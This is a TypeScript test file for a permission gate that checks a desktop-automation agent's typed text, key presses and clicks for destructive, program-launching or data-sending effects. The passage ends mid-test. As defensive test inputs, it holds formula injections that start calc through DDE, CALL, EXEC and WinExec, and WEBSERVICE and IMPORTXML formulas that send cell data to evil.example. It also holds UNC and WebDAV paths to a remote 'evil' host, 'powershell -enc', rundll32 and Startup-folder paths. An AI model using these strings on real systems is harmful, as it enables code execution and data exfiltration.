/** What leaves decides, not the action that lets it out: the same effect by every action, way and delivery that reaches it. */
import { describe, expect, it } from 'vitest';
import type { AppIdentity } from '../../../../src/contract/element/binding.ts';
import { ITEMS, PRESSABLE, type ControlType } from '../../../../src/contract/element/control-types.ts';
import type { ElementContext } from '../../../../src/contract/element/element.ts';
import { defaultPolicy, type Policy, type RiskTag } from '../../../../src/contract/gate/permissions.ts';
import { exitsOf } from '../../../../src/contract/ways/exits.ts';
import { passGate } from '../../../../src/policy/gate/gate.ts';
import type { LeftBehind } from '../../../../src/policy/risk/content/keyboard.ts';
import type { GateSubject } from '../../../../src/policy/gate/gate-types.ts';
import {
  call,
  installed,
  bound,
  CHROME,
  context,
  element,
  failure,
  MAIL,
  NOTEPAD,
  TERMINAL,
  testWorld,
  type TestWorld,
  TRADER,
} from '../world.ts';
import { phrasesOf, wordsOf } from '../../../support/words.ts';

const EXCEL = installed('C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', 'Excel');
const EXPLORER = installed('C:\\Windows\\explorer.exe', 'Explorer');
const IDEA = installed('C:\\Program Files\\JetBrains\\bin\\idea64.exe', 'IntelliJ IDEA');
const UNKNOWN = installed('C:\\Tools\\console-like.exe', 'Tool');

const NO_MORE = { automationId: '', isPassword: false, isInMenu: false, isInComboBox: false };

interface Place {
  readonly app?: AppIdentity;
  readonly className?: string;
  readonly policy?: Partial<Policy>;
  readonly left?: LeftBehind;
  /** What is on the clipboard. */
  readonly clipboard?: string;
  readonly hasRead?: boolean;
}

/** At level `full`, as shipped, with the flags that typing needs. */
function at(
  seen: ElementContext | null,
  { app: of = NOTEPAD, className = 'Main', policy = {}, left, clipboard = '', hasRead = false }: Place = {},
): TestWorld {
  const world = testWorld({
    policy: { ...defaultPolicy('full'), flags: ['clipboardWrite'], ...policy },
    app: of,
    seen,
    ...(left === undefined ? {} : { left }),
  });
  world.live = bound(of, { className });
  world.clipboardNow = clipboard;
  if (hasRead) world.left.noteRead();
  return world;
}

/** Tags of the last card; null if no person was asked; the code of a refusal. */
async function result(one: GateSubject, world: TestWorld): Promise<readonly RiskTag[] | string | null> {
  const before = world.cards.length;
  try {
    await passGate(one, world);
  } catch (error) {
    return (error as { code: string }).code;
  }
  return world.cards.length > before ? (world.cards.at(-1)?.riskTags ?? []) : null;
}

const DANGEROUS = context(element('Edit', 'Reason', { source: 'window' }), {
  dialogTitle: 'Delete the account?',
  defaultButtonName: 'Delete',
  receiver: { family: 'control', part: 'plain', takes: 'edit' },
});

describe('[exit.keys] text that a way sends as keys is judged as keys', () => {
  const ENTERS = ['x\n', 'x\r', 'x\r\n', '\n', '\t\n', 'x\ty'];
  const REAL: ReadonlyArray<readonly [string, (text: string) => object]> = [
    ['typeIntoElement', (text) => ({ name: 'Reason', text, delivery: 'foreground' })],
    ['typeIntoElement', (text) => ({ name: 'Reason', text, mode: 'append', delivery: 'foreground' })],
    ['type', (text) => ({ text })],
    ['type', (text) => ({ text, delivery: 'foreground' })],
    ['virtualKeyboard', (text) => ({ action: 'type', text })],
  ];
  for (const [method, input] of REAL) {
    it.each(ENTERS)(`${method} ${JSON.stringify(input('…'))} with %j is asked at full`, async (text) => {
      expect(await result(call(method, input(text)), at(DANGEROUS))).toContain('destructive');
    });
  }

  it('a field that takes it as text presses nothing; a surface that takes characters may', async () => {
    const one = call('typeIntoElement', { name: 'Reason', text: 'x\n' });
    const { permit } = await passGate(one, at(DANGEROUS));
    expect(permit.target).toMatchObject({ question: [], defaultButton: 'Delete', dialogTitle: 'Delete the account?' });
    for (const takes of ['custom', 'characters'] as const) {
      const seen = { ...DANGEROUS, receiver: { family: 'control', part: 'plain', takes } } as const;
      expect(await result(one, at(seen))).toContain('destructive');
    }
  });

  it('no earlier approval of text covers a line break, another delivery or another kind of element', async () => {
    const world = at(context(element('Edit', 'Reason')), { policy: { level: 'control' } });
    world.answer = () => ({ scope: 'window', minutes: 60 });
    const text = (more: object): GateSubject => call('typeIntoElement', { name: 'Reason', text: 'x', ...more });
    expect(await result(text({}), world)).not.toBeNull();
    world.answer = () => ({});
    expect(await result(text({ text: 'other' }), world)).toBeNull();
    expect(await result(text({ delivery: 'foreground' }), world)).not.toBeNull();
    expect(await result(text({ text: 'x\n', delivery: 'foreground' }), world)).not.toBeNull();
    world.seen = context(element('DataItem', 'A1'));
    expect(await result(text({}), world)).not.toBeNull();
  });
});

describe('[exit.keyboard] what earlier calls left on the keyboard counts for the next one, text included', () => {
  const FIELD = context(element('Edit', 'Notes'), {
    menu: 'closed',
    reachable: [
      {
        controlType: 'Button',
        name: 'Delete rows',
        automationId: '',
        isPassword: false,
        isInMenu: false,
        isInComboBox: false,
      },
    ],
  });
  const TEXTS: readonly GateSubject[] = [
    call('type', { text: 'hdr' }),
    call('type', { text: 'hdr', delivery: 'foreground' }),
    call('virtualKeyboard', { action: 'type', text: 'hdr' }),
    call('key', { keySequence: 'h d r' }),
    call('typeIntoElement', { name: 'Notes', text: 'hdr', delivery: 'foreground' }),
  ];
  it.each(['alt', 'f10', 'apps', 'lalt'])('after %s alone, each text may choose from a menu', async (alone) => {
    for (const text of TEXTS) {
      // A click into a field closes menus before it is typed into.
      if (text.action === 'typeIntoElement') continue;
      const world = at(FIELD);
      await passGate(call('key', { keySequence: alone }), world);
      expect(await result(text, world), JSON.stringify(text.input)).toContain('destructive');
    }
  });

  it('whatever session each call is made in, and whatever window is used meanwhile', async () => {
    for (const meanwhile of [
      call('key', { keySequence: 'down' }),
      call('type', { text: 'x' }),
      call('clickElement', { name: 'Notes' }),
    ]) {
      const first = at(FIELD);
      await passGate(call('key', { keySequence: 'alt' }), first);
      const elsewhere = at(FIELD, { left: first.left.of('another') });
      elsewhere.live = bound(NOTEPAD, { hwnd: '77' });
      await passGate(meanwhile, elsewhere);
      const later = at(FIELD, { left: first.left.of('a third') });
      expect(await result(call('type', { text: 'hdr' }), later)).toContain('destructive');
    }
  });

  it('Escape and a click with the real pointer end that, and a field with the focus does once keys went to the menu', async () => {
    for (const end of [
      call('key', { keySequence: 'escape' }),
      call('clickElement', { name: 'Notes', delivery: 'foreground' }),
    ]) {
      const world = at(FIELD);
      (await passGate(call('key', { keySequence: 'alt' }), world)).succeeded();
      // A press by a pattern or a message closes none.
      (await passGate(call('clickElement', { name: 'Notes' }), world)).succeeded();
      expect(await result(call('type', { text: 'hdr' }), world)).toContain('destructive');
      (await passGate(end, world)).succeeded();
      expect(await result(call('type', { text: 'hdr' }), world)).toBeNull();
    }
    const world = at(FIELD);
    (await passGate(call('key', { keySequence: 'alt' }), world)).succeeded();
    (await passGate(call('key', { keySequence: 'h d r' }), world)).succeeded();
    expect(await result(call('type', { text: 'hdr' }), world)).toBeNull();
  });

  it('only once they were delivered: what fails, or whose end is unknown, ends nothing', async () => {
    const ends = [
      call('key', { keySequence: 'escape' }),
      call('clickElement', { name: 'Notes', delivery: 'foreground' }),
      call('key', { keySequence: 'h d r' }),
    ];
    for (const end of ends)
      for (const hasBegun of [true, false]) {
        const world = at(FIELD);
        const opened = await passGate(call('key', { keySequence: 'alt' }), world);
        if (hasBegun) opened.succeeded();
        await passGate(end, world);
        expect(await result(call('type', { text: 'hdr' }), world)).toContain('destructive');
      }
  });

  it('a modifier that is held makes combinations of a text', async () => {
    for (const text of [call('type', { text: 'd' }), call('virtualKeyboard', { action: 'type', text: 'd' })]) {
      const world = at({ ...FIELD, menu: 'none' });
      world.held = ['alt'];
      expect(await result(text, world)).toContain('destructive');
    }
  });
});

describe('[exit.formula] a formula is judged by whatever way it reaches a spreadsheet', () => {
  const CELL = context(element('DataItem', 'A1'));
  const BAR = context(element('Edit', 'Formula Bar'));
  const NOWHERE = context(null);
  /** Each with what the field holds and the clipboard has as it is sent. */
  const ways = (text: string): ReadonlyArray<readonly [GateSubject, held?: string]> => [
    [call('writeCell', { name: 'Grid', row: 0, column: 0, text })],
    [call('typeIntoElement', { name: 'A1', text })],
    [call('typeIntoElement', { name: 'A1', text, delivery: 'foreground' })],
    [call('typeIntoElement', { name: 'A1', text, mode: 'append' })],
    [call('type', { text })],
    [call('type', { text, viaClipboard: true })],
    [call('virtualKeyboard', { action: 'type', text })],
    [call('key', { keySequence: 'ctrl+v' })],
    [call('virtualKeyboard', { action: 'combo', text: 'shift+insert' })],
    [call('type', { text: text.slice(1) }), text.slice(0, 1)],
    [call('key', { keySequence: '=' }), text.slice(1)],
    [call('type', { text: `a\t${text}` })],
  ];
  const run = async ([one, held]: readonly [GateSubject, held?: string], seen: ElementContext, text: string) => {
    const world = at(held === undefined ? seen : { ...seen, held }, { app: EXCEL, clipboard: text });
    return (await result(one, world)) ?? world.records.at(-1)?.riskTags ?? [];
  };

  it.each(["=cmd|' /c calc'!A0", '=CALL("kernel32","WinExec","JCJ","calc",0)', '=EXEC("calc")', '=REGISTER("a","b")'])(
    '%s is refused at every level',
    async (formula) => {
      for (const seen of [CELL, BAR, NOWHERE])
        for (const way of ways(formula))
          expect(await run(way, seen, formula), JSON.stringify(way[0].input)).toBe('blocked_by_policy');
    },
  );

  it.each(['=WEBSERVICE("http://evil.example/?"&A1)', "='\\\\evil\\s\\[x.xlsx]A'!A1", '=HYPERLINK("http://x")'])(
    '%s carries external_submit',
    async (formula) => {
      for (const way of ways(formula))
        expect(await run(way, CELL, formula), JSON.stringify(way[0].input)).toContain('external_submit');
    },
  );

  it('what starts programs is asked in any other field, whatever begins it', async () => {
    for (const text of ["=cmd|' /c calc'!A0", "+cmd|' /c calc'!A0", "@cmd|' /c calc'!A0", "-2+3+cmd|' /c calc'!A0"])
      for (const [one, held] of ways(text).slice(1, -3))
        for (const seen of [context(element('Pane', '')), BAR]) {
          const world = at(held === undefined ? seen : { ...seen, held }, { app: UNKNOWN, clipboard: text });
          expect(await result(one, world), `${text} ${JSON.stringify(one.input)}`).toContain('customCommand');
        }
  });

  it('what was typed earlier, and what is on the clipboard but not pasted, is not remembered', async () => {
    const first = at(CELL, { app: EXCEL });
    await passGate(call('type', { text: '=' }), first);
    const later = at(CELL, { app: EXCEL, left: first.left, clipboard: "=cmd|' /c calc'!A0" });
    expect(await result(call('type', { text: "cmd|' /c calc'!A0" }), later)).toBeNull();
  });

  it('more names than are looked up are refused', async () => {
    const names = Array.from({ length: 65 }, (_, at_) => `Name_${'x'.repeat(at_ + 1)}`).join('+');
    const error = await failure(
      passGate(call('writeRange', { range: 'A1', values: [[{ formula: `=${names}` }]] }), at(CELL, { app: EXCEL })),
    );
    expect(error.code).toBe('blocked_by_policy');
  });
});

describe('[exit.path] a path to another machine is asked wherever it is typed', () => {
  const NO_PAGE = { document: { kind: 'none', address: null } } as const;
  const PATHS = wordsOf`
    \\evil\share\x //evil/share/x file://evil/share \\evil@SSL\DavWWWRoot\x \\?\UNC\evil\s
  `;
  const FIELDS: ReadonlyArray<readonly [string, ElementContext, Place]> = [
    ['a dialog', context(element('Edit', 'File name:')), { className: '#32770' }],
    ['a dialog with a default button', context(element('ComboBox', 'File name:'), { defaultButtonName: 'Open' }), {}],
    ['the address bar', context(element('Edit', 'Address')), { app: EXPLORER, className: 'CabinetWClass' }],
    [
      'a browser’s own field',
      context(element('Edit', 'Address'), { document: { kind: 'none', address: null } }),
      { app: CHROME, policy: { grants: [{ app: CHROME.bundleId, tier: 'full' }] } },
    ],
    ['a sheet', context(element('DataItem', 'A1')), { app: EXCEL }],
    ['a shell', context(element('Document', 'cmd')), { app: TERMINAL, className: 'ConsoleWindowClass' }],
    ['an unknown focus', context(null), {}],
    ['a field of a window that may be a dialog of its own', context(element('Edit', 'Location:'), NO_PAGE), {}],
    ['a field that its program draws', context(element('Pane', ''), NO_PAGE), {}],
  ];
  const WAYS = (text: string): readonly GateSubject[] => [
    call('typeIntoElement', { name: 'x', text }),
    call('typeIntoElement', { name: 'x', text, delivery: 'foreground' }),
    call('type', { text }),
    call('type', { text, viaClipboard: true }),
    call('virtualKeyboard', { action: 'type', text }),
  ];
  for (const [name, seen, place] of FIELDS) {
    it.each(PATHS)(`${name}: %s`, async (path) => {
      for (const one of WAYS(path)) {
        const world = at(seen, place);
        const found = await result(one, world);
        expect(found, JSON.stringify(one.input)).toContain('external_submit');
      }
    });
  }

  it('in pieces too, and programs and startup folders where files are saved', async () => {
    const world = at({ ...FIELDS[0]![1], held: '\\\\evil' }, FIELDS[0]![2]);
    expect(await result(call('type', { text: '\\share\\x' }), world)).toContain('external_submit');
    const shown = at({ ...FIELDS[0]![1], held: '\\\\evil\\share\\x' }, FIELDS[0]![2]);
    expect(await result(call('typeIntoElement', { name: 'x', text: 'plan.txt' }), shown)).toBeNull();
    for (const text of [
      'C:\\x\\evil.bat',
      'report.lnk',
      '%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.txt',
    ])
      for (const one of WAYS(text))
        expect(await result(one, at(FIELDS[0]![1], FIELDS[0]![2])), text).toContain('customCommand');
  });

  it('a local path and ordinary text are not asked', async () => {
    for (const text of ['C:\\Users\\me\\plan.txt', 'plan.txt', 'and/or'])
      expect(await result(call('typeIntoElement', { name: 'x', text }), at(FIELDS[0]![1], FIELDS[0]![2]))).toBeNull();
    expect(await result(call('type', { text: '\\\\evil\\x' }), at(context(element('Document', 'Text'))))).toBeNull();
    for (const type of ['Edit', 'Pane'] as const)
      expect(
        await result(call('type', { text: 'see \\\\evil\\x for it' }), at(context(element(type, 'Text'), NO_PAGE))),
      ).toBeNull();
  });
});

describe('[exit.start] starting a program is known by what would happen', () => {
  const folder: Place = { app: EXPLORER, className: 'CabinetWClass' };
  const item = (name: string, more: Partial<ElementContext> = {}): ElementContext =>
    context(element('ListItem', name), more);
  const OPENING: readonly GateSubject[] = [
    call('clickElement', { name: 'x', count: 2 }),
    call('clickElement', { name: 'x', count: 2, delivery: 'foreground' }),
    call('click', { x: 1, y: 1, count: 2 }),
    call('virtualMouse', { action: 'double_click', x: 1, y: 1 }),
    call('key', { keySequence: 'enter' }),
    call('virtualKeyboard', { action: 'combo', text: 'enter' }),
    call('type', { text: '\n' }),
  ];
  it('an item that is not known as a folder or document, by every open gesture, in any process', async () => {
    for (const one of OPENING) {
      expect(await result(one, at(item('invoice'), folder)), JSON.stringify(one.input)).toContain('customCommand');
      const dialog = at(item('invoice.pdf', { fileType: null }), { className: '#32770' });
      expect(await result(one, dialog), JSON.stringify(one.input)).toContain('customCommand');
      for (const fileType of phrasesOf`
        Application | Windows Batch File | Microsoft Common Console Document | Executable Jar File
      `)
        expect(
          await result(one, at(item('invoice', { fileType }), { className: '#32770' })),
          `${fileType} ${JSON.stringify(one.input)}`,
        ).toContain('customCommand');
      for (const fileType of ['File folder', 'Dateiordner', 'PDF File', 'Text Document', 'Microsoft Word Document'])
        expect(
          await result(one, at(item('plan', { fileType }), folder)),
          `${fileType} ${JSON.stringify(one.input)}`,
        ).toBeNull();
      // Its suffix is hidden or not: a name that runs asks, whatever its type says.
      expect(await result(one, at(item('plan.exe', { fileType: 'PDF File' }), folder))).toContain('customCommand');
    }
    // Enter on the view opens what is selected in it.
    for (const one of OPENING.slice(-3)) {
      const view = context(element('List', 'Items View'), { fileType: null });
      expect(await result(one, at(view, { className: '#32770' })), JSON.stringify(one.input)).toContain(
        'customCommand',
      );
    }
  });

  it('a single click selects', async () => {
    expect(await result(call('clickElement', { name: 'x' }), at(item('setup.exe'), folder))).toBeNull();
    const exits = exitsOf(call('clickElement', { name: 'x' }).traits, item('setup.exe'));
    expect(exits.some((exit) => exit.kind === 'press' && exit.by === 'invoke')).toBe(false);
  });

  it.each(phrasesOf`
    Run as administrator | Als Administrator ausführen | Run with PowerShell | 管理者として実行 | Install | Открыть | Abrir
  `)('the menu entry %s', async (name) => {
    for (const one of [call('clickElement', { name }), call('selectElement', { name }), call('click', { x: 1, y: 1 })])
      expect(await result(one, at(context(element('MenuItem', name)), folder))).toContain('customCommand');
  });

  it('running as administrator is critical', async () => {
    const world = at(context(element('MenuItem', 'Run as administrator')), folder);
    await passGate(call('clickElement', { name: 'x' }), world);
    expect(world.cards[0]?.riskLevel).toBe('critical');
  });

  it('the deny list holds for a program that is known to start', async () => {
    for (const one of OPENING)
      expect(
        await result(one, at(item('regedit'), { ...folder, policy: { deny: ['regedit.exe'] } })),
        JSON.stringify(one.input),
      ).toBe('blocked_by_policy');
  });

  it('macro editors, run keys, drawn surfaces of unknown programs and remote desktops', async () => {
    const surface = context(element('Pane', ''));
    const lines: ReadonlyArray<readonly [ElementContext, Place]> = [
      [context(element('Edit', 'Immediate')), { app: EXCEL, className: 'wndclass_desked_gsk' }],
      [surface, { app: IDEA }],
      [surface, { app: UNKNOWN }],
      [surface, { app: installed('C:\\Windows\\System32\\mstsc.exe', 'Remote Desktop') }],
    ];
    for (const [seen, place] of lines)
      for (const one of [call('type', { text: 'x\n' }), call('key', { keySequence: 'enter' })])
        expect(await result(one, at(seen, place)), place.app?.displayName).toContain('customCommand');
    for (const place of [{ app: IDEA }, { app: EXCEL, className: 'wndclass_desked_gsk' }])
      expect(
        await result(call('key', { keySequence: 'f5' }), at(context(element('Document', 'code')), place)),
      ).toContain('customCommand');
  });

  it('two presses in a row are a double click, by whatever calls and in whatever sessions', async () => {
    const at1 = { x: 1, y: 1 };
    const PRESSES: readonly GateSubject[] = [
      call('clickElement', { name: 'x' }),
      call('clickElement', { name: 'x', delivery: 'foreground' }),
      call('click', at1),
      call('virtualMouse', { action: 'click', ...at1 }),
      call('mouseDown', {}),
      call('mouseUp', {}),
    ];
    for (const first of PRESSES)
      for (const second of PRESSES) {
        const world = at(item('invoice'), folder);
        await passGate(first, world);
        const later = at(item('invoice'), { ...folder, left: world.left.of('another') });
        const name = `${JSON.stringify(first.input)} ${second.action}`;
        expect(await result(second, later), name).toContain('customCommand');
      }
    // A single press chooses; what is let go may have been dragged there.
    for (const one of PRESSES.slice(0, -1))
      expect(await result(one, at(item('invoice'), folder)), one.action).toBeNull();
  });

  it('a drop on an item that is not known as a folder gives it to a program', async () => {
    const drag = call('drag', { from: { x: 1, y: 1 }, to: { x: 2, y: 2 } });
    expect(await result(drag, at(item('tool'), folder))).toContain('customCommand');
    expect(await result(drag, at(item('plan', { fileType: 'File folder' }), folder))).toBeNull();
  });

  it('one earlier approval of clicks in a folder never covers another kind, an open gesture or a menu entry', async () => {
    const world = at(item('plan', { fileType: 'File folder' }), { ...folder, policy: { level: 'control' } });
    world.answer = () => ({ scope: 'window', minutes: 60 });
    await passGate(call('clickElement', { name: 'plan' }), world);
    world.answer = () => ({});
    expect(await result(call('clickElement', { name: 'plan' }), world)).toBeNull();
    expect(await result(call('clickElement', { name: 'plan', count: 2 }), world)).not.toBeNull();
    world.seen = context(element('MenuItem', 'Run as administrator'));
    expect(await result(call('clickElement', { name: 'x' }), world)).not.toBeNull();
  });
});

describe('[scope.surface] text into a sheet, a page, a chat, a launcher or a drawn surface', () => {
  const title = (dialogTitle: string): Partial<ElementContext> => ({ dialogTitle });
  const page = (address: string): Partial<ElementContext> => ({ address, document: { kind: 'page', address } });
  const granted = { grants: [{ app: CHROME.bundleId, tier: 'full' as const }] };
  /** What it shows, and what it shows next. */
  const SURFACES: ReadonlyArray<readonly [string, AppIdentity, ElementContext, Partial<ElementContext>]> = [
    ['a sheet', EXCEL, context(element('DataItem', 'A1'), title('Plan.xlsx - Excel')), title('Other.xlsx - Excel')],
    ['a page', CHROME, context(element('Edit', 'Find'), page('https://a.example/1')), page('https://a.example/2')],
    ['a chat', MAIL, context(element('Document', 'Text'), title('Write: to Ada')), title('Write: to Bob')],
    ['a folder window', EXPLORER, context(element('Edit', 'Address'), title('Documents')), title('Music')],
    ['a drawn surface', UNKNOWN, context(element('Pane', ''), title('Board 1')), title('Board 2')],
  ];
  const FILLING: readonly GateSubject[] = [
    call('type', { text: 'words' }),
    call('key', { keySequence: 'right down' }),
    call('typeIntoElement', { name: 'x', text: 'more words', mode: 'append' }),
    call('virtualKeyboard', { action: 'type', text: '=A1' }),
  ];
  it.each(SURFACES)('%s: one answer covers text and moving keys until it shows another', async (_, app, seen, next) => {
    for (const first of FILLING) {
      const world = at(seen, { app, policy: { level: 'control' } });
      const asks = async (one: GateSubject): Promise<boolean> => (await result(one, world)) !== null;
      world.answer = () => ({ scope: 'window', minutes: 60 });
      expect(await asks(first)).toBe(true);
      expect(world.cards[0]?.covers?.find(({ scope }) => scope === 'window')?.text).toMatch(
        /may enter formulas, and text that leaves/,
      );
      world.answer = () => ({});
      for (const one of FILLING) expect(await asks(one), JSON.stringify([first.input, one.input])).toBe(false);
      for (const keySequence of ['enter', 'tab', 'ctrl+v']) expect(await asks(call('key', { keySequence }))).toBe(true);
      for (const text of ['x\n', 'x\t']) expect(await asks(call('type', { text })), text).toBe(true);
      world.seen = { ...seen, ...next };
      for (const one of FILLING) expect(await asks(one), JSON.stringify(one.input)).toBe(true);
      world.seen = { ...seen, element: element('Button', 'OK') };
      expect(await asks(FILLING[0]!)).toBe(true);
    }
  });

  it.each(SURFACES)('%s: at full it asks after reading alone, and while sending always asks', async (_, app, seen) => {
    const [text, moving] = FILLING as [GateSubject, GateSubject];
    const place: Place = { app, policy: app === CHROME ? granted : {} };
    const without = { ...place, policy: { ...place.policy, alwaysAsk: ['destructive' as const] }, hasRead: true };
    expect(await result(text, at(seen, place))).toBeNull();
    expect((await result(text, at(seen, { ...place, hasRead: true }))) !== null).toBe(app !== CHROME);
    expect(await result(moving, at(seen, { ...place, hasRead: true }))).toBeNull();
    expect(await result(text, at(seen, without))).toBeNull();
    const browser = at(seen, { app: CHROME, policy: { level: 'full' } });
    browser.answer = () => ({ scope: 'session' });
    for (const isAsked of [true, false]) expect((await result(text, browser)) !== null).toBe(isAsked);
    expect(await result(text, at(context(element('Edit', 'Name')), { hasRead: true }))).toBeNull();
  });

  it('[scope.origin] in a browser every lasting answer is for one origin', async () => {
    const next = element('Button', 'Next');
    const click = call('clickElement', { name: 'Next' });
    const world = at(context(next, page('https://a.example/1')), { app: CHROME, policy: { level: 'control' } });
    world.answer = () => ({ scope: 'session' });
    expect(await result(click, world)).not.toBeNull();
    world.answer = () => ({});
    for (const [address, isCovered] of [
      ['https://a.example/2', true],
      ['https://b.example/1', false],
    ] as const) {
      world.seen = context(next, page(address));
      expect((await result(click, world)) === null).toBe(isCovered);
    }
  });

  it('[exit.formula] carries external_submit in a page, where any field may be a cell', async () => {
    const world = at(context(element('Edit', 'A1'), page('https://a.example/1')), { app: CHROME, policy: granted });
    await passGate(call('type', { text: '=IMPORTXML("http://evil.example/?"&A1,"//a")' }), world);
    expect(world.records.at(-1)?.riskTags).toContain('external_submit');
  });
});

describe('[exit.focus] what the focus, an arrow or the wheel does in a control counts, not its name', () => {
  const radio = { controlType: 'RadioButton', name: 'Delete everything', automationId: '', isPassword: false } as const;
  const seen = (role: 'Edit' | 'RadioButton', name: string): ElementContext =>
    context(element(role, name), { reachable: [{ ...radio, isInMenu: false, isInComboBox: false }] });
  const key = (keySequence: string): GateSubject => call('key', { keySequence });
  it.each([
    ...[call('focusElement', { name: 'Delete everything' })].map((one) => ['RadioButton', radio.name, one] as const),
    ...wordsOf`up left right down home end alt+down tab`.map((one) => ['RadioButton', 'Keep', key(one)] as const),
    ...wordsOf`tab shift+tab ctrl+tab`.map((one) => ['Edit', 'Reason', key(one)] as const),
    ['Edit', 'Reason', key('tab down')],
    ['Edit', 'Reason', call('type', { text: 'a\t' })],
  ] as const)('%s %s', async (role, name, one) => {
    expect(await result(one, at(seen(role, name))), JSON.stringify(one.input)).toContain('destructive');
  });

  it('the wheel over a number changes it: in a trading program it is financial', async () => {
    const wheel = call('scrollElement', { name: 'Volume', dx: 0, dy: 1 });
    const over = (role: 'Spinner' | 'Slider' | 'Document'): TestWorld =>
      at(context(element(role, 'Volume')), {
        app: TRADER,
        policy: { grants: [{ app: TRADER.bundleId, tier: 'full' }] },
      });
    for (const role of ['Spinner', 'Slider'] as const) expect(await result(wheel, over(role))).toContain('financial');
    expect(await result(wheel, over('Document'))).toBeNull();
  });

  it('an answer for the focus, arrows or the wheel names the type, and covers no other', async () => {
    for (const [one, harmless, other] of [
      [call('focusElement', { name: 'x' }), 'Edit', 'RadioButton'],
      [key('down'), 'Edit', 'RadioButton'],
      [call('scrollElement', { name: 'x', dx: 0, dy: 1 }), 'Document', 'Spinner'],
    ] as const) {
      const world = at(context(element(harmless, 'x')), { policy: { level: 'control' } });
      world.answer = () => ({ scope: 'window', minutes: 60 });
      expect(await result(one, world)).not.toBeNull();
      world.answer = () => ({});
      expect(await result(one, world)).toBeNull();
      world.seen = context(element(other, 'x'));
      expect(await result(one, world), other).not.toBeNull();
    }
  });
});

describe('[exit.path] a path in any of its spellings', () => {
  const dialog = context(element('Edit', 'File name:'), { dialogTitle: 'Save As', defaultButtonName: 'Save' });
  const WAYS = (text: string): readonly GateSubject[] => [
    call('typeIntoElement', { name: 'x', text }),
    call('typeIntoElement', { name: 'x', text, delivery: 'foreground' }),
    call('type', { text }),
    call('type', { text, viaClipboard: true }),
  ];
  it.each(wordsOf`
    search-ms:displayname=x&crumb=location:\\evil\share search:crumb=location:%5C%5Cevil%5Cs \/evil/share\x
    /\evil\share \??\UNC\evil\s ::{20D04FE0-3AEA-1069-A2D8-08002B30309D}\\\evil\s ftp://evil/x smb://evil/x
  `)('%s leads to another machine', async (path) => {
    for (const one of WAYS(path))
      expect(await result(one, at(dialog, { className: '#32770' })), one.action).toContain('external_submit');
  });

  it.each([
    'C:/Users/x/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.txt',
    'C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Windows\\STARTM~1\\Programs\\Startup\\a.txt',
    'evil.exe.',
    'evil.exe . ',
    'evil.exe::$DATA',
    'evil.bat:x',
    'a.chm',
    'a.xll',
    'a.dll',
    'a.iso',
    'a.library-ms',
    'powershell -enc AAAA',
    'C:\\Windows\\System32\\rundll32.exe x.dll,y',
    'C:\\work\\.git\\hooks\\pre-commit',
    ...wordsOf`.mcp.json .gitconfig .vscode/tasks.json tasks.json package.json Makefile x.csproj a.docm b.xlsm c.mjs`,
  ])('%s is a program, or is started by Windows', async (path) => {
    for (const one of WAYS(path))
      expect(await result(one, at(dialog, { className: '#32770' })), one.action).toContain('customCommand');
  });
});

describe('[exit.start] programs in other places', () => {
  const item = (name: string): ElementContext => context(element('ListItem', name));
  const MANAGERS = ['totalcmd64.exe', '7zFM.exe', 'doublecmd.exe'].map((file) => installed(`C:\\Tools\\${file}`, file));
  const TEAMS = installed('C:\\Tools\\ms-teams.exe', 'Teams');
  const granted = { grants: [{ app: CHROME.bundleId, tier: 'full' as const }] };
  it.each(wordsOf`setup.exe run.bat a.lnk invoice.iso invoice.js x.ps1 a.cpl a.msc a.chm a.url a.xlsm`)(
    '%s, whatever control names it',
    async (file) => {
      const presses = [{ count: 2 }, { delivery: 'foreground', count: 2 }, {}].map((more) =>
        call('clickElement', { name: 'x', ...more }),
      );
      const enter = call('key', { keySequence: 'enter' });
      const roles = wordsOf`Button SplitButton Hyperlink MenuItem CheckBox Image Text Custom Group ListItem DataItem`;
      for (const name of [file, `Open ${file}`, `${file}, 2 KB`])
        for (const of of [UNKNOWN, NOTEPAD, TEAMS, CHROME])
          for (const role of [...roles, 'TreeItem'] as ControlType[])
            for (const one of PRESSABLE.has(role) || ITEMS.has(role) ? [...presses, enter] : presses)
              expect(
                await result(one, at(context(element(role, name)), { app: of, policy: granted })),
                `${name} ${of.displayName} ${role} ${JSON.stringify(one.input)}`,
              ).toContain('customCommand');
      for (const of of MANAGERS)
        for (const one of [presses[0]!, enter])
          expect(await result(one, at(item(file), { app: of }))).toContain('customCommand');
    },
  );

  it('not where it is shown alone: a tab or field, an editor’s list, a page from the network, a domain', async () => {
    const web = { address: 'https://a.example/', document: { kind: 'page', address: 'https://a.example/' } } as const;
    for (const [role, name, of, more] of [
      ['TabItem', 'setup.py', NOTEPAD, {}],
      ['Edit', 'setup.py', NOTEPAD, {}],
      ['TreeItem', 'setup.py', IDEA, {}],
      ['Hyperlink', 'setup.py', CHROME, web],
      ['ListItem', 'setup.py', CHROME, web],
      ['Button', 'example.com', NOTEPAD, {}],
      ['Button', 'a.exe.txt', NOTEPAD, {}],
    ] as const) {
      const world = at(context(element(role, name), more), { app: of, policy: granted });
      expect(await result(call('clickElement', { name: 'x' }), world), `${role} ${name}`).toBeNull();
    }
  });

  it('keys that move to another item before they open it', async () => {
    const plan = context(element('ListItem', 'plan.pdf'), {
      fileType: 'PDF File',
      reachable: [
        { controlType: 'ListItem', name: 'invoice.exe, 2 KB', ...NO_MORE },
        { controlType: 'ListItem', name: 'b.exe', ...NO_MORE },
      ],
    });
    const { fileType: _, ...mail } = plan;
    for (const [seen, of] of [
      [plan, EXPLORER],
      [mail, MAIL],
    ] as const)
      for (const one of [call('key', { keySequence: 'down enter' }), call('type', { text: 'b\n' })])
        expect(await result(one, at(seen, { app: of })), of.displayName).toContain('customCommand');
  });

  it('a yes, Enter and the menus of programs that start others, and a browser’s downloads and tools', async () => {
    const program = (file: string): AppIdentity => installed(`C:\\Windows\\${file}`, file);
    const click = call('clickElement', { name: 'x' });
    const menu = call('selectElement', { name: 'x', item: 'Action > Run' });
    const enter = call('key', { keySequence: 'enter' });
    const enters = [
      enter,
      call('type', { text: 'calc\n' }),
      call('virtualKeyboard', { action: 'combo', text: 'enter' }),
    ];
    const field = context(element('Edit', 'Program/script:'), { defaultButtonName: 'OK' });
    const button = (name: string): ElementContext => context(element('Button', name));
    const rows: Array<readonly [GateSubject, ElementContext, Place]> = [];
    for (const of of wordsOf`mmc.exe regedit.exe msconfig.exe openwith.exe`.map(program))
      for (const className of ['#32770', 'WindowsForms10.Window.8']) {
        const place = { app: of, className };
